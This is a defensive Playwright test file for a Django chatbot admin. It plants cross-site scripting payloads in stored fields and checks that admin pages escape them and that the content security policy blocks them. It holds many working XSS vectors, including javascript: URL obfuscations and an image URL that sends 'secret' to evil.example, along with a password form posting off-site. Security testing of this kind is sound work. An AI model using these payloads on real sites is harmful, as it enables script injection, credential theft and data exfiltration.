"""Whatever users, models and documents write: no page of ours runs it or loads from it."""

from functools import partial
from urllib.parse import quote

import pytest
from django.contrib.admin.models import LogEntry
from playwright.sync_api import expect

from botgpt.accounts.models import APIKey, User
from conversations.models import Citation, Conversation, Feedback, Message, Retrieval
from conversations.transcript import SECTIONS
from documents.models import Chunk, Document
from documents.tasks import defer_ingestion
from tests.factories import complete, make_conversation, make_document

pytestmark = pytest.mark.django_db(transaction=True)

OUTSIDE = "https://evil.example"
# Each sets `ran` or calls outside, if it is let.
HTML = f"""
<script>ran = 1</script><script src="{OUTSIDE}/a.js"></script>
<script type="module">window.ran = 1</script>
<img src="{OUTSIDE}/b.png"><img src=x onerror="ran = 1"><image src=x onerror="ran = 1">
<svg onload="ran = 1"><script>ran = 1</script><image href="{OUTSIDE}/c.svg"></image></svg>
<svg><animate onbegin="ran = 1" attributeName="x" dur="1s"></animate></svg>
<math><mtext><table><mglyph><style><img src=x onerror="ran = 1"></style></mglyph></table></mtext>
</math><body onload="ran = 1"><details open ontoggle="ran = 1"><summary>x</summary></details>
<input autofocus onfocus="ran = 1"><video src="{OUTSIDE}/d.mp4" autoplay></video>
<audio src="{OUTSIDE}/e.mp3" autoplay onerror="ran = 1"></audio>
<iframe src="{OUTSIDE}/f.html"></iframe><iframe srcdoc="<script>parent.ran = 1</script>"></iframe>
<object data="{OUTSIDE}/g.swf"></object><embed src="{OUTSIDE}/h.swf">
<link rel="stylesheet" href="{OUTSIDE}/i.css"><link rel="preload" as="script" href="{OUTSIDE}/j">
<style>@import "{OUTSIDE}/k.css"; body {{ background: url({OUTSIDE}/l.png) }}</style>
<div style="background: url({OUTSIDE}/m.png)">x</div><p style="position: fixed">x</p>
<table background="{OUTSIDE}/n.png"><tr><td>x</td></tr></table>
<meta http-equiv="refresh" content="0; url={OUTSIDE}/o"><base href="{OUTSIDE}/">
<form id="f" action="{OUTSIDE}/p" method="post"><input name="password"></form>
<button form="f" formaction="{OUTSIDE}/q">Sign in</button>
<a href="javascript:ran=1" class="bad">x</a><a href="data:text/html,<script>1</script>">x</a>
</div></article></textarea></title></style></script>--><script>ran = 1</script>
"""
LINKS = [
    "javascript:ran=1",
    "JaVaScRiPt:ran=1",
    " javascript:ran=1",
    "java\tscript:ran=1",
    "java&#10;script:ran=1",
    "&#106;avascript:ran=1",
    "javascript&colon;ran=1",
    "%6Aavascript:ran=1",
    "javascript://%0aran=1",
    "\x01javascript:ran=1",
    "vbscript:ran=1",
    "data:text/html;base64,PHNjcmlwdD5yYW49MTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=ran=1>",
    "file:///etc/passwd",
    "//evil.example/r",
    "/admin/logout/",
    "blob:https://evil.example/s",
    "https:javascript:ran=1",
    'https://evil.example/" onmouseover="ran=1',
]
MARKDOWN = "\n\n".join(
    [
        *(f"[link]({link})" for link in LINKS),
        *(f"[link](<{link}>)" for link in LINKS),
        *(f"![image]({link})" for link in LINKS),
        *(f"<{link}>" for link in LINKS),
        *(f"[ref{n}]\n\n[ref{n}]: {link}" for n, link in enumerate(LINKS)),
        f"![stolen]({OUTSIDE}/t.png?text=secret) [![x]({OUTSIDE}/u.png)]({OUTSIDE}/v)",
        f'![x]({OUTSIDE}/w.png "onerror=ran=1") <{OUTSIDE}/x>',
        f"```html\n{HTML}\n```",
        f"| a |\n|---|\n| <img src=x onerror=ran=1> ![y]({OUTSIDE}/y.png) |",
    ]
)
ATTACK = HTML + MARKDOWN
SECTION = {"tokens": 1, "kept": 1, "left_out": 1, "reason": ATTACK}
# What fits into a name.
NAME = f'"><img src=x onerror=ran=1><svg onload=ran=1><img src={OUTSIDE}/z.png>'

LOADING = (
    "script:not([src^='/static/'], [src='/admin/jsi18n/']), link:not([href^='/static/']), "
    "img:not([src^='/static/']), svg image, picture, source, video, audio, math, style, [style], "
    "iframe, frame, object, embed, base, meta[http-equiv], "
    "form[action*='//'], [formaction], [background], [srcdoc]"
)
LOOK = """selector => ({
  ran: window.ran ?? null,
  violations: window.violations,
  loading: [...document.querySelectorAll(selector)].map(one => one.outerHTML),
  handlers: [...document.querySelectorAll('*')].filter(
    one => [...one.attributes].some(({name}) => name.startsWith('on'))).map(one => one.outerHTML),
  links: [...document.querySelectorAll('a[href]')].map(
    ({protocol, host, rel}) => ({protocol, host, rel})),
  written: [...document.querySelectorAll('.markdown a[href]')].map(({host}) => host),
})"""
# What the policy stopped: a page that is escaped well never comes to that.
WATCH = """window.violations = [];
document.addEventListener('securitypolicyviolation',
  event => violations.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`));"""


class Visit:
    """A page in a window of its own: what it asked for outside, and what it said."""

    def __init__(self, browser, origin, cookies=()):
        context = browser.new_context(accept_downloads=False)
        context.add_cookies(cookies)
        context.add_init_script(WATCH)
        self.page, self.origin = context.new_page(), origin
        self.outside, self.dialogs = [], []
        self.page.on("dialog", self._dismiss)
        context.route(lambda address: not address.startswith(origin), self._refuse)

    def open(self, path):
        self.page.goto(self.origin + path)
        # What runs late.
        self.page.wait_for_timeout(100)

    def serve(self, path, body, kind="text/html", policy=None):
        """A page that is none of ours, in the place of one."""
        headers = {"Content-Security-Policy": policy} if policy else {}
        serve = partial(self._serve, body=body, content_type=kind, headers=headers)
        self.page.route(self.origin + path, serve)

    def policy_of(self, path):
        return self.page.request.get(self.origin + path).headers["content-security-policy"]

    def look(self):
        return self.page.evaluate(LOOK, LOADING)

    def close(self):
        self.page.context.close()

    def _serve(self, route, _request, **answer):
        route.fulfill(**answer)

    def _dismiss(self, dialog):
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def _refuse(self, route):
        self.outside.append(route.request.url)
        route.abort()


@pytest.fixture
def visit(browser, live_server, admin_client):
    cookies = [
        {"name": name, "value": cookie.value, "url": live_server.url}
        for name, cookie in admin_client.cookies.items()
    ]
    visit = Visit(browser, live_server.url, cookies)
    yield visit
    visit.close()


@pytest.fixture
def hostile(user):
    """Attacks wherever text of users, models and documents is kept."""
    User.objects.filter(pk=user.pk).update(username=NAME, first_name=NAME)
    document = make_document(user, f"Opening hours {ATTACK}")
    Document.objects.filter(pk=document.pk).update(name=NAME, title=NAME, error=ATTACK)
    Chunk.objects.filter(document=document).update(section=NAME)
    conversation = make_conversation(user, mode="grounded_rag", documents=[document])
    _, answer = conversation.ask(ATTACK)
    chunk = document.chunks.first()
    citation = Citation(
        message=answer,
        number=1,
        document=document,
        chunk_id=chunk.pk,
        document_name=NAME,
        section=NAME,
        page=1,
        char_start=0,
        char_end=9,
        quote=ATTACK,
        score=1,
    )
    complete(answer, ATTACK, [citation])
    found = {"document_name": NAME, "section": NAME, "page_start": 1, "page_end": 1, "score": 1}
    Retrieval.objects.create(
        message=answer,
        question=ATTACK,
        query=ATTACK,
        searches=[[{"text": ATTACK, "weight": 1}]],
        query_rewriting="model",
        rewriting="model",
        rewrite_model=NAME,
        limit=6,
        candidates=[
            {**found, "outcome": outcome, "chunk_id": str(chunk.pk)} for outcome in ("kept", NAME)
        ],
        duration_ms=1,
    )
    Message.objects.filter(conversation=conversation).update(
        model=NAME,
        error=ATTACK,
        error_code=NAME[:40],
        finish_reason=NAME[:40],
        sampling={"stop": [NAME], NAME: 1},
        context=dict.fromkeys(SECTIONS, SECTION) | {"total": NAME, "budget": NAME},
    )
    Conversation.objects.filter(pk=conversation.pk).update(
        title=NAME,
        summary=ATTACK,
        summarised_through=answer.pk,
        system_prompt=ATTACK,
        fallback_models=[NAME],
    )
    defer_ingestion(document)
    Feedback.objects.create(message=answer, rating="down", comment=ATTACK, document=document)
    APIKey.objects.issue(NAME[:100], user)
    return conversation


def pages(conversation):
    document = Document.objects.get()
    change = f"conversations/conversation/{conversation.pk}"
    return [
        f"{change}/change/",
        f"{change}/change/?branches=all",
        f"conversations/message/{Feedback.objects.get().pk}/prompt/",
        "conversations/message/",
        f"conversations/message/?q=1&user__id__exact={quote(NAME)}",
        "conversations/usageentry/by-user/",
        f"{change}/delete/",
        f"{change}/history/",
        "conversations/conversation/",
        f"conversations/feedback/{Feedback.objects.get().pk}/change/",
        "conversations/feedback/",
        f"documents/document/{document.pk}/change/",
        f"documents/document/{document.pk}/delete/",
        "documents/document/",
        f"documents/document/{document.pk}/pages/1/?from=3&to=90",
        "documents/document/add/",
        f"documents/chunk/?document__id__exact={document.pk}",
        f"procrastinate/procrastinatejob/?q={document.pk}",
        "admin/logentry/",
        f"documents/document/search/?documents={document.pk}&query=opening+hours+img&limit=10",
        f"documents/chunk/{document.chunks.first().pk}/change/",
        "documents/chunk/",
        f"accounts/user/{conversation.user_id}/change/",
        "accounts/user/",
        "accounts/apikey/",
        "",
    ]


def assert_harmless(visit, path):
    visit.open(path)
    seen = visit.look()
    assert (seen["ran"], visit.dialogs, visit.outside) == (None, [], []), path
    assert seen["violations"] == [], path
    assert seen["loading"] == [], path
    assert seen["handlers"] == [], path
    host = visit.origin.removeprefix("http://")
    for link in seen["links"]:
        assert link["protocol"] in ("http:", "https:", "mailto:"), (path, link)
        if link["host"] != host:
            assert link["rel"] == "noopener noreferrer nofollow", (path, link)
    assert host not in seen["written"], path
    assert visit.page.url == visit.origin + path


def test_no_page_of_the_admin_runs_or_loads_what_somebody_wrote(visit, hostile, admin_user):
    admin_user.first_name = NAME
    admin_user.save()
    LogEntry.objects.log_actions(admin_user.pk, [hostile], 2, NAME)

    for path in pages(hostile):
        assert_harmless(visit, f"/admin/{path}")


def test_an_answer_is_shown_as_markdown_with_the_hosts_of_its_links(visit, user):
    conversation = make_conversation(user)
    text = f"**Bold** [a bank](https://bank.example@evil.example/) ![chart]({OUTSIDE}/c.png)"
    complete(conversation.ask("And?")[1], f"{text}\n\n- one\n- two")

    visit.open(f"/admin/conversations/conversation/{conversation.pk}/change/")

    shown = visit.page.locator(".markdown").last
    assert shown.locator("strong").inner_text() == "Bold"
    assert shown.locator("li").all_inner_texts() == ["one", "two"]
    told = "Bold a bank (evil.example) image: chart (evil.example)"
    assert shown.locator("p").inner_text() == told


def test_the_attacks_are_real(visit):
    """Without escaping and policy they run, so the tests around this one tell something."""
    visit.serve("/raw", HTML)
    visit.open("/raw")

    assert f"{OUTSIDE}/b.png" in visit.outside
    assert len(visit.outside) > 5


@pytest.mark.parametrize("path", ["/admin/login/", "/docs", "/health/live", "/nowhere"])
def test_the_policy_alone_stops_them(visit, path):
    """As if a page of ours had escaped nothing."""
    # A policy says nothing about leaving the page.
    visit.serve("/raw", HTML.split("<meta")[0], policy=visit.policy_of(path))
    visit.open("/raw")

    seen = visit.look()
    assert (seen["ran"], visit.dialogs, visit.outside) == (None, [], [])
    assert len(seen["violations"]) > 10


def test_the_policy_keeps_a_form_from_leading_elsewhere(visit):
    form = f'<base href="{OUTSIDE}/"><form action="{OUTSIDE}/p"></form>'
    visit.serve("/raw", form, policy=visit.policy_of("/nowhere"))
    visit.open("/raw")
    visit.page.evaluate("document.forms[0].requestSubmit()")
    visit.page.wait_for_timeout(100)

    assert visit.outside == []
    assert visit.page.evaluate("document.baseURI") == f"{visit.origin}/raw"


def test_a_page_with_scripts_of_ours_works_under_the_policy(visit):
    """Modules, calls and streams of the same origin, and style sheets in files."""
    page = "<link rel=stylesheet href=app.css><script type=module src=app.js></script>"
    script = """
        import { word } from './word.js'
        const answer = await fetch('/health/live')
        const stream = new EventSource('/events')
        stream.onmessage = event => {
          stream.close()
          document.title = [word, answer.status, event.data].join(' ')
        }"""
    policy = visit.policy_of("/nowhere")
    visit.serve("/app", page, policy=policy)
    visit.serve("/app.css", "body { margin: 7px }", "text/css", policy)
    visit.serve("/app.js", script, "text/javascript", policy)
    visit.serve("/word.js", "export const word = 'module'", "text/javascript", policy)
    visit.serve("/events", "data: streamed\n\n", "text/event-stream", policy)
    visit.open("/app")

    # Waits without evaluating a text in the page, which the policy forbids.
    expect(visit.page).to_have_title("module 200 streamed", timeout=30_000)
    assert visit.page.evaluate("getComputedStyle(document.body).marginTop") == "7px"
    assert visit.look()["violations"] == []


def test_swagger_works_and_calls_nobody_else(visit):
    visit.open("/docs")

    visit.page.click("#operations-models-list_models .opblock-summary-control")
    visit.page.click("button.execute")
    visit.page.wait_for_selector(".live-responses-table")
    answer = visit.page.locator(".live-responses-table tbody .response-col_status")
    assert answer.inner_text() == "200"
    seen = visit.look()
    assert (seen["violations"], visit.outside) == ([], [])


def test_redoc_works_and_calls_nobody_else(visit):
    visit.open("/redoc")

    visit.page.wait_for_selector("h1 >> text=BOT GPT")
    visit.page.fill("[role=search] input", "budget")
    visit.page.wait_for_selector("[role=search] [role=menuitem]")
    assert visit.outside == []
    assert all("img-src" in told for told in visit.look()["violations"])
